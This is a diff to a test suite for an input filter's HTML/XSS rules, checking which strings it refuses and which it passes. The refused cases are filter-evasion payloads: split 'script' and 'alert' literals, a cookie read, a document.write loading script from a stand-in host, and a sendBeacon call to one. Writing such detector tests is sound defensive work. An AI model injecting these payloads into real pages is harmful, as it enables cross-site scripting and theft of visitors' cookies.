@@ -348,7 +348,10 @@ describe("html family: a filtered word cut across joined literals", () => {
     "document.write(\"<scr\" + \"ipt src=//e.vil></scr\" + \"ipt>\")",
     "top['al' + 'ert'](1)",
     "el.src = 'java' + 'script:void(0)'",
-    "';w=window;w['docu'+'ment']['coo'+'kie'];//"
+    "';w=window;w['docu'+'ment']['coo'+'kie'];//",
+    "u='jav'+\n'ascript:void(0)'",
+    "u='vbs'+\r\n'cript:run'",
+    "x=\"a note longer than any piece of a cut word, with no closing quote at all 'ale'+'rt'"
   ])("is written to pass a filter: %s", (value) => {
     expect(refused(value), value).toBe(true)
   })
@@ -359,9 +362,18 @@ describe("html family: a filtered word cut across joined literals", () => {
     "it's 'java' + 'script' really",
     "'Warning: ' + 'alert level ' + n",
     "msg = 'Critical ' + 'alert: ' + text",
-    "I'll say ' + 'later', she wrote"
+    "I'll say ' + 'later', she wrote",
+    "href = 'javascript' + ':' + code",
+    "src = 'data:' + 'text/html' + ';charset=utf-8,' + body",
+    "html = '<' + 'svg width=\"' + w + '\">'",
+    "out += '<' + '/script>'"
   ])("passes literals that keep their words whole: %s", (value) => {
     expect(refused(value), value).toBe(false)
+  })
+
+  it("does not read a closing tag cut at its `<` inside document.write as a cut word", () => {
+    const value = "document.write('<div id=\"ad\"></div><' + '/script>')"
+    expect(family.scan(value, { location: "query", paranoia: 1 }).map((f) => f.ruleId)).not.toContain("html-112")
   })
 })
 
@@ -384,11 +396,9 @@ describe("html family: a keyword glued to a global once whitespace is removed", 
 
 describe("html family: one call of a browser API that acts on the visitor", () => {
   it.each([
-    "navigator.vibrate(500)",
+    "top.navigator.vibrate(900)",
     "navigator.vibrate([200, 100, 200]);",
-    "\";navigator.sendBeacon('//x.example', 1);//",
-    "window.navigator.geolocation.getCurrentPosition(send)",
-    "navigator.mediaDevices.getUserMedia({video:true})"
+    "\";navigator.sendBeacon('//x.example', 1);//"
   ])("is what a probe injects: %s", (value) => {
     expect(refused(value), value).toBe(true)
   })
@@ -396,10 +406,19 @@ describe("html family: one call of a browser API that acts on the visitor", () =
   it.each([
     "navigator.clipboard.writeText(text).then(() => done())",
     "navigator.serviceWorker.register('/sw.js')",
-    "Call navigator.vibrate(500) to buzz the phone",
+    "Call navigator.vibrate(300) to buzz the phone",
     "navigator.userAgent",
     "if (navigator.share) navigator.share(data)"
   ])("passes code that goes on and prose: %s", (value) => {
+    expect(refused(value), value).toBe(false)
+  })
+
+  it.each([
+    "navigator.clipboard.writeText('copied!')",
+    "navigator.geolocation.getCurrentPosition(onFix, onError)",
+    "navigator.mediaDevices.getUserMedia({ audio: true })",
+    "navigator.share({ title: 'Docs', url: location.href })"
+  ])("passes a documentation snippet of a permission-gated API: %s", (value) => {
     expect(refused(value), value).toBe(false)
   })
 })
